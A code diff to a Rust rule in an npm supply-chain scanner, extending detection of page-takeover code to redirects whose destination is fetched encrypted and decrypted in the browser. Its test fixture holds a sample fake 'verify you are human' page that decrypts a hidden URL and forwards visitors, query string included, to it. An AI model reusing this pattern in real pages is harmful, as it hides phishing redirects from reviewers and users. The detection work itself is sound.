@@ -15,13 +15,20 @@ diligence_finding::declare_rule! {
     /// — `window.open`, `alert`, `location.replace`, `location.assign` — in code that runs when the module loads
     /// (module scope, an immediately invoked function, a timer or callback it registers), next to a targeting gate
     /// read at load: the time zone or locale (`Intl.DateTimeFormat().resolvedOptions().timeZone`) or a country
-    /// from an IP-geolocation lookup. Critical.
+    /// from an IP-geolocation lookup. Critical. Also, in a module or an HTML page an entry point reaches, wherever
+    /// it runs: a redirect (`location.replace`, `location.assign`) in code that downloads and decrypts
+    /// (`crypto.subtle.decrypt`, `crypto.createDecipheriv`): the destination is fetched encrypted so that
+    /// neither the package nor its traffic shows it. Critical.
     ///
     /// ## Why it matters
     /// In March 2022 event-source-polyfill 1.0.26 and es5-ext added code that, for visitors whose time zone was in
     /// Russia or Belarus, showed an alert and opened a page with a political appeal, on every site that bundled
     /// them. The library's users never asked for it and their visitors see it: protestware that hijacks other
-    /// people's pages, run once per browser behind a `localStorage` flag so that testing rarely shows it.
+    /// people's pages, run once per browser behind a `localStorage` flag so that testing rarely shows it. Since
+    /// 2023 npm has also served phishing pages through its CDN mirrors (unpkg, jsDelivr): fake Cloudflare
+    /// "verify you are human" pages and document viewers (the 2025 beamglea campaign, the ClickFix/Turnstile
+    /// packages of 2026) that fetch an encrypted destination, decrypt it in the browser and redirect the
+    /// visitor, query string and all, to a credential-phishing site.
     ///
     /// ## Example
     /// `if (zones.indexOf(Intl.DateTimeFormat().resolvedOptions().timeZone) !== -1) setTimeout(() => { alert(msg);
@@ -32,7 +39,8 @@ diligence_finding::declare_rule! {
     /// `window.open` from a function the application calls on a click, not at load; an application's entry point
     /// that redirects by locale is the application's own choice (it is not a dependency's module with the gate at
     /// load, or it is a bundle, which is skipped). A library's own documented load-time locale redirect would be
-    /// reported.
+    /// reported. OAuth helpers redirect to a URL a server returned, in the clear: no decryption; password-protected
+    /// static pages (StatiCrypt) decrypt content with the visitor's password and fetch nothing.
     pub static TARGETED_PAGE_TAKEOVER = { id: "code/targeted-page-takeover", severity: Severity::Critical };
 }
 
@@ -41,9 +49,43 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     let imported = super::at_load::imported(p);
     p.files
         .iter()
-        .filter(|f| f.kind == FileKind::JavaScript && f.reachable && !super::is_bundle(f))
-        .filter_map(|f| module(p, &imported, f))
+        .filter(|f| f.reachable && !super::is_bundle(f))
+        .filter_map(|f| {
+            let page = f.kind == FileKind::Text && {
+                let l = f.path.to_ascii_lowercase();
+                l.ends_with(".html") || l.ends_with(".htm")
+            };
+            if f.kind == FileKind::JavaScript {
+                module(p, &imported, f).or_else(|| hidden_destination(p, f))
+            } else if page {
+                hidden_destination(p, f)
+            } else {
+                None
+            }
+        })
         .collect()
+}
+
+/// A redirect in a file that downloads and decrypts: the destination arrives encrypted.
+fn hidden_destination(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
+    if !f.has(Kind::Decipher) || !f.has(Kind::Network) {
+        return None;
+    }
+    let hit = f
+        .of(Kind::PageTakeover)
+        .find(|s| s.detail.contains("location."))?;
+    Some(finding(
+        &TARGETED_PAGE_TAKEOVER,
+        TARGETED_PAGE_TAKEOVER.default_severity,
+        f,
+        hit,
+        Locality::File,
+        format!(
+            "`{}` in code that downloads and decrypts: the destination is hidden",
+            hit.detail
+        ),
+        chain(p, f, hit, &[Kind::Decipher, Kind::Network]),
+    ))
 }
 
 fn module(
@@ -100,6 +142,41 @@ mod tests {
             vec![("index.js".to_string(), 7)]
         );
         assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// A page (the package's main) fetches an encrypted destination, decrypts it with WebCrypto
+    /// and redirects there, through an IIFE that aliases `window`.
+    #[test]
+    fn positive_page_redirects_to_decrypted_destination() {
+        let s = scan(&[
+            (
+                "package.json",
+                r#"{"name":"p","version":"1.0.0","main":"index.html"}"#,
+            ),
+            (
+                "index.html",
+                "<!doctype html>\n<html><body>\n<h1>Verify you are human</h1>\n<script src=\"x.js\"></script>\n<script>\n(function (w) {\n  fetch('https://example.org/k').then(function (r) { return r.json(); }).then(function (j) {\n    return w.crypto.subtle.decrypt({ name: 'AES-CTR' }, j.k, j.v);\n  }).then(function (p) {\n    w.location.replace(new TextDecoder().decode(p) + w.location.search);\n  });\n})(window);\n</script>\n</body></html>\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/targeted-page-takeover"),
+            vec![("index.html".to_string(), 10)]
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// An OAuth helper redirects to the URL its server returned, in the clear.
+    #[test]
+    fn negative_oauth_redirect_from_server_answer() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "exports.login = function () {\n  return fetch('/auth/start').then(function (r) { return r.json(); }).then(function (j) { window.location.assign(j.url); });\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/targeted-page-takeover").is_empty());
+        assert_eq!(s.verdict, Verdict::Clean);
     }
 
     /// A date helper reading the time zone, and an OAuth popup opened from an exported
